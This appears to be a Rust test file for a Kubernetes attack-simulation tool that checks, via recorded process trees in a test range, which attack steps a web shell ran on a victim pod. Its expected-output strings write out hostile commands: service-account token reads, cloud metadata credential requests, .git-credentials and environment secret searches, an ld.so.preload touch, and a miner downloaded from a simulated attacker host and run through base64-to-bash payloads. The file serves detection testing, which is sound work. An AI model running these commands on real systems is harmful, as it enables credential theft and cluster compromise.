//! The kernel's view of a run.
//!
//! It covers the programs in the victim, their arguments, parents and order, and the files they accessed. One test per
//! scenario covers everything that ran.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::range::{Finally, Space, alone, shared, state, text};

/// A program that ran, with the actions of its forks before they executed another program.
#[derive(Debug)]
pub struct Program {
    /// When it was forked; orders programs of one container.
    at: u64,
    name: String,
    argv: Vec<String>,
    /// Indices of the ancestors in the list, nearest first.
    above: Vec<usize>,
    deeds: Vec<(u64, String)>,
}

impl Program {
    /// Returns the command line.
    pub fn command(&self) -> String {
        let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c);
        let quoted = self.argv.iter().map(|argument| {
            if !argument.is_empty() && argument.chars().all(plain) {
                argument.clone()
            } else {
                format!("'{}'", argument.replace('\'', r"'\''"))
            }
        });
        quoted.collect::<Vec<_>>().join(" ")
    }

    /// Returns the names of the ancestors, nearest first.
    fn line<'a>(&self, of: &'a [Self]) -> Vec<&'a str> {
        self.above.iter().map(|&index| of[index].name.as_str()).collect()
    }
}

/// Runs scenarios under the recorder. Returns the programs by container name.
pub fn record(space: &Space, scenarios: &[&str]) -> BTreeMap<String, Vec<Program>> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = tempfile::NamedTempFile::new().unwrap();
    let binary = Path::new(env!("CARGO_BIN_EXE_kubectl-defender_sim"))
        .parent()
        .unwrap();
    let path = format!("{}:{}", binary.display(), std::env::var("PATH").unwrap());
    let status = Command::new(root.join("tests/range/record"))
        .arg(out.path())
        .args(["kubectl", "defender-sim", "run"])
        .args(scenarios)
        .args(["--yes", "-q", "-n", &space.0])
        .env("PATH", path)
        .status()
        .unwrap();
    assert!(status.success());
    let recorded: Value = serde_json::from_str(&std::fs::read_to_string(out.path()).unwrap()).unwrap();
    assert_eq!(recorded["lost"], 0);
    assert!(!recorded.to_string().contains("eyJ"), "a token was written down");
    let mut programs = BTreeMap::new();
    for container in recorded["containers"].as_array().unwrap() {
        if container["namespace"] == space.0.as_str() {
            let mut found = vec![];
            walk(&container["processes"], &[], &mut found);
            programs.insert(text(&container["container"]), found);
        }
    }
    programs
}

fn walk(processes: &Value, above: &[usize], found: &mut Vec<Program>) {
    let list = |value: &Value| value.as_array().unwrap().clone();
    for process in list(processes) {
        let mut line = above.to_vec();
        if process["forked"] != true {
            line.insert(0, found.len());
            found.push(Program {
                at: process["at"].as_u64().unwrap(),
                name: text(&process["comm"]),
                argv: list(&process["argv"]).iter().map(text).collect(),
                above: above.to_vec(),
                deeds: vec![],
            });
        }
        if let Some(&program) = line.first() {
            let program = &mut found[program];
            let writes = list(&process["opens"])
                .into_iter()
                .filter(|open| open["write"] == true)
                .map(|open| (open, "writes"));
            let starts = list(&process["tried"])
                .into_iter()
                .map(|tried| (tried, "cannot start"));
            for (deed, verb) in writes.chain(starts) {
                let printed = format!("({} {verb} {})", program.name, text(&deed["path"]));
                program.deeds.push((deed["at"].as_u64().unwrap(), printed));
            }
        }
        walk(&process["children"], &line, found);
    }
}

/// Returns the requests in order: the step, and the index of the web shell's `sh -c` in the victim's list.
///
/// Asserts that the attacker sent and the victim ran the same commands in the same order, and that otherwise only the
/// victim's servers ran.
#[track_caller]
fn requests(programs: &BTreeMap<String, Vec<Program>>) -> Vec<(String, usize)> {
    let (attacker, victim) = (&programs["attacker"], &programs["victim"]);
    let mut sent: Vec<(String, String)> = vec![];
    let mut step = String::new();
    // The gate is checked before the first step and after the last.
    let check = "curl -qso /dev/null -m 10 -w '%{http_code}' http://mdc-simulation-victim/ws.php";
    let curls = attacker.iter().filter(|program| program.argv[0] == "curl");
    let curls: Vec<String> = curls
        .map(Program::command)
        .filter(|command| command.contains("http://mdc-simulation-victim/"))
        .collect();
    let checks: Vec<usize> = (0..curls.len()).filter(|&i| curls[i] == check).collect();
    assert_eq!(checks, [0, curls.len() - 1], "{curls:#?}");
    for program in attacker {
        let argv: Vec<&str> = program.argv.iter().map(String::as_str).collect();
        match argv[..] {
            ["base64", "-w0", file] => {
                let name = file.strip_prefix("/simulation/steps/").unwrap();
                name[4..].strip_suffix(".sh").unwrap().clone_into(&mut step);
            }
            [
                "curl",
                "-Gs",
                "--data-urlencode",
                data,
                "http://mdc-simulation-victim/ws.php",
            ] => {
                assert_eq!(program.line(attacker), ["bash"]);
                let request = (step.clone(), data.strip_prefix("cmd=").unwrap().to_owned());
                // Retried only if the connection failed.
                if sent.last() != Some(&request) {
                    sent.push(request);
                }
            }
            _ => assert!(
                program.argv[0] != "curl"
                    || program.command() == check
                    || program
                        .command()
                        .starts_with("curl -qsfo /dev/null http://localhost/"),
                "another request: {program:#?}"
            ),
        }
    }
    let is_shell = |p: &Program| {
        p.name == "sh" && p.argv.len() == 3 && p.argv[1] == "-c" && p.line(victim) == ["php-fpm", "sh"]
    };
    let mut shells: Vec<usize> = (0..victim.len()).filter(|&i| is_shell(&victim[i])).collect();
    shells.sort_by_key(|&i| victim[i].at);
    let ran: Vec<&str> = shells.iter().map(|&i| victim[i].argv[2].as_str()).collect();
    let commands: Vec<&str> = sent.iter().map(|(_, command)| command.as_str()).collect();
    assert_eq!(ran, commands, "what the victim ran is not what the attacker sent");
    let others = victim.iter().enumerate().filter(|(index, program)| {
        !shells.contains(index) && !program.above.iter().any(|above| shells.contains(above))
    });
    let others: Vec<&str> = others.map(|(_, program)| program.name.as_str()).collect();
    assert_eq!(others, ["sh", "php-fpm", "nginx"], "{victim:#?}");
    sent.into_iter().map(|(step, _)| step).zip(shells).collect()
}

/// Asserts that the steps ran in this order, each in its own web shell request, with exactly these programs and files.
///
/// The order within a step matters as well. Every program is a child of a bash, below the `sh -c` of the web shell,
/// below PHP's worker.
#[track_caller]
fn assert_steps(programs: &BTreeMap<String, Vec<Program>>, expected: &[(&str, &[&str])]) {
    let victim = &programs["victim"];
    let mut seen = vec![];
    for (step, shell) in requests(programs) {
        let command = &victim[shell].argv[2];
        let payload = command
            .strip_prefix("echo ")
            .and_then(|c| c.strip_suffix("| base64 -d| bash"));
        let base64 = |c: char| c.is_ascii_alphanumeric() || "+/=".contains(c);
        assert!(payload.is_some_and(|p| p.chars().all(base64)), "{command}");
        let below: Vec<&Program> = victim.iter().filter(|p| p.above.contains(&shell)).collect();
        let (delivery, work): (Vec<&Program>, _) = below.iter().partition(|p| p.above[0] == shell);
        let delivery: Vec<String> = delivery.iter().map(|p| p.command()).collect();
        assert_eq!(delivery, ["base64 -d", "bash"], "{step}");
        for program in &work {
            let line = program.line(victim);
            assert_eq!(line, ["bash", "sh", "php-fpm", "sh"], "{step}: {program:#?}");
        }
        let ran = work.iter().map(|program| (program.at, program.command()));
        let deeds = below.iter().flat_map(|program| program.deeds.clone());
        let mut all: Vec<(u64, String)> = ran.chain(deeds).collect();
        all.sort();
        seen.push((
            step,
            all.into_iter().map(|(_, printed)| printed).collect::<Vec<_>>(),
        ));
    }
    let expected: Vec<(String, Vec<String>)> = expected
        .iter()
        .map(|(step, all)| {
            (
                (*step).to_owned(),
                all.iter().map(|&printed| printed.to_owned()).collect(),
            )
        })
        .collect();
    assert_eq!(seen, expected, "seen, and expected: {seen:#?}");
}

/// Asserts the order of the attacker's own programs, each below its first bash.
#[track_caller]
fn assert_attacker(programs: &BTreeMap<String, Vec<Program>>, expected: &[&str]) {
    let attacker = &programs["attacker"];
    let below: Vec<String> = attacker
        .iter()
        .filter(|program| program.line(attacker) == ["bash"])
        .map(Program::command)
        .filter(|command| expected.contains(&command.as_str()))
        .collect();
    assert_eq!(below, expected, "{attacker:#?}");
}

const TOKEN: &str = "cat /var/run/secrets/kubernetes.io/serviceaccount/token";

#[test]
#[ignore = "needs the range: make range"]
fn recon() {
    let _shared = shared();
    let space = Space::named("tree-recon");
    let review = concat!(
        "curl -s -k -A kubectl -H 'Authorization: Bearer <token>' -H 'Content-Type: application/json' -X POST -d ",
        r#"'{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","#,
        r#""spec":{"resourceAttributes":{"namespace":"default","resource":"pods","verb":"get"}}}' "#,
        "https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
    );
    let expected: [(&str, &[&str]); _] = [
        ("recon.read-token", &[TOKEN]),
        ("recon.access-review", &[review]),
        (
            "recon.scan-services",
            &["nmap -Pn --open kubernetes.default/24 -p 443"],
        ),
    ];
    assert_steps(&record(&space, &["recon"]), &expected);
}

/// The script tries one cloud after the other until one responds, so each run shows more requests.
#[test]
#[ignore = "needs the range: make range"]
fn lateral_mov() {
    let _alone = alone();
    let flavour = state().join("flavour");
    let _removed = Finally(|| {
        let _ = std::fs::remove_file(&flavour);
    });
    let gcp = "curl -s -H 'Metadata-Flavor: Google' http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token";
    let session = "curl -sf -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600'";
    let role = |role| {
        format!(
            "curl -sf -H 'X-aws-ec2-metadata-token: stand-in-session-token' http://169.254.169.254/latest/meta-data/iam/security-credentials/{role}"
        )
    };
    let compute = |what| {
        format!(
            "curl -s -H Metadata:true --noproxy '*' 'http://169.254.169.254/metadata/instance/compute/{what}?api-version=2017-08-01&format=text'"
        )
    };
    let identity = |which| {
        format!(
            "curl -sf -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com{which}'"
        )
    };
    let agent_pool = concat!(
        "&msi_res_id=/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/MC_range_range_westeurope",
        "/providers/Microsoft.ManagedIdentity/userAssignedIdentities/range-agentpool"
    );
    let (roles, credentials) = (role(""), role("range-node-role"));
    let (subscription, group) = (compute("subscriptionId"), compute("resourceGroupName"));
    let (location, node, pool) = (compute("location"), identity(""), identity(agent_pool));
    let clouds: [(&str, &[&str]); _] = [
        ("gcp", &[gcp]),
        ("aws", &[gcp, session, &roles, &credentials]),
        ("azure", &[gcp, session, &subscription, &group, &location, &node]),
        (
            "azure-multiple",
            &[gcp, session, &subscription, &group, &location, &node, &pool],
        ),
        ("none", &[gcp, session, &subscription]),
    ];
    for (cloud, expected) in clouds {
        std::fs::write(&flavour, cloud).unwrap();
        let space = Space::named(&format!("tree-{cloud}"));
        let programs = record(&space, &["lateral-mov"]);
        assert_steps(&programs, &[("lateral-mov.metadata-token", expected)]);
    }
}

#[test]
#[ignore = "needs the range: make range"]
fn secrets() {
    let _shared = shared();
    let space = Space::named("tree-secrets");
    let expected: [(&str, &[&str]); _] = [
        (
            "secrets.find-git-credentials",
            &["find / -path '*/.git-credentials'"],
        ),
        (
            "secrets.read-git-credentials",
            &["cat /home/user/.git-credentials"],
        ),
        ("secrets.read-token", &[TOKEN]),
        (
            "secrets.search-environment",
            &[
                "env",
                "grep -q '^GOOGLE_DEFAULT_CLIENT_SECRET='",
                "env",
                "grep -q '^AWS_SECRET_ACCESS_KEY='",
                "env",
                "grep -q '^AZURE_CREDENTIAL_FILE='",
            ],
        ),
    ];
    assert_steps(&record(&space, &["secrets"]), &expected);
}

#[test]
#[ignore = "needs the range: make range"]
fn crypto() {
    let _shared = shared();
    let space = Space::named("tree-crypto");
    let programs = record(&space, &["crypto"]);
    let expected: [(&str, &[&str]); _] = [
        ("crypto.load-msr", &["/sbin/modprobe msr allow_writes=on"]),
        (
            "crypto.touch-ld-preload",
            &["touch /etc/ld.so.preload", "(touch writes /etc/ld.so.preload)"],
        ),
        (
            "crypto.download-miner",
            &[
                "curl -sO http://mdc-simulation-attacker/xmrig",
                "(curl writes xmrig)",
                "wc -c",
            ],
        ),
        ("crypto.run-miner", &["chmod +x xmrig", "./xmrig"]),
    ];
    assert_steps(&programs, &expected);
    assert_attacker(
        &programs,
        &[
            "mkdir -p /tmp/www",
            "cp /bin/true /tmp/www/xmrig",
            "python3 -m http.server 80",
        ],
    );
}

#[test]
#[ignore = "needs the range: make range"]
fn ti_domain() {
    let _shared = shared();
    let space = Space::named("tree-ti-domain");
    let contact =
        "curl -s -m 10 -X POST 'http://mdc-eicar.alerts.security.azure.com?SendingData' -o /dev/null";
    let expected: [(&str, &[&str]); _] = [("ti-domain.contact-domain", &[contact])];
    assert_steps(&record(&space, &["ti-domain"]), &expected);
}

#[test]
#[ignore = "needs the range: make range"]
fn anti_malware() {
    let _shared = shared();
    let space = Space::named("tree-anti-malware");
    let expected: [(&str, &[&str]); _] = [
        (
            "anti-malware.write-file",
            &["(bash writes ./infected_file)", "wc -c"],
        ),
        // The test string is not an executable: the kernel refuses it, and bash runs it as a script.
        (
            "anti-malware.run-file",
            &["chmod a+x ./infected_file", "(bash cannot start ./infected_file)"],
        ),
    ];
    assert_steps(&record(&space, &["anti-malware"]), &expected);
}

#[test]
#[ignore = "needs the range: make range"]
fn webshell() {
    let _shared = shared();
    let space = Space::named("tree-webshell");
    let programs = record(&space, &["webshell"]);
    let victim = &programs["victim"];
    let requests = requests(&programs);
    assert_eq!(requests.len(), 1, "{victim:#?}");
    let shell = requests[0].1;
    assert_eq!(victim[shell].command(), "sh -c whoami");
    // The shell may either execute or fork whoami.
    let whoami: Vec<&Program> = victim.iter().filter(|p| p.argv == ["whoami"]).collect();
    assert_eq!(whoami.len(), 1, "{victim:#?}");
    let line = whoami[0].line(victim);
    assert!(
        line == ["sh", "php-fpm", "sh"] || line == ["php-fpm", "sh"],
        "{line:?}"
    );
    assert!(victim.iter().all(|program| {
        program
            .deeds
            .iter()
            .all(|(_, printed)| !printed.contains("writes"))
    }));
    assert_eq!(victim.len(), 5, "more ran: {victim:#?}");
}

#[test]
#[ignore = "needs the range: make range"]
fn scenarios_run_in_the_order_given() {
    let _shared = shared();
    let space = Space::named("tree-order");
    let programs = record(&space, &["anti-malware", "ti-domain", "crypto"]);
    let steps: Vec<String> = requests(&programs).into_iter().map(|(step, _)| step).collect();
    let expected = [
        "anti-malware.write-file",
        "anti-malware.run-file",
        "ti-domain.contact-domain",
        "crypto.load-msr",
        "crypto.touch-ld-preload",
        "crypto.download-miner",
        "crypto.run-miner",
    ];
    assert_eq!(steps, expected);
}

#[test]
#[ignore = "needs the range: make range"]
fn baseline() {
    let _shared = shared();
    let space = Space::named("tree-baseline");
    let programs = record(&space, &["crypto", "--baseline"]);
    let victim = &programs["victim"];
    // The start command, PHP and the web server: a victim without an attack.
    let names: Vec<&str> = victim.iter().map(|program| program.name.as_str()).collect();
    assert_eq!(names, ["sh", "php-fpm", "nginx"], "{victim:#?}");
}
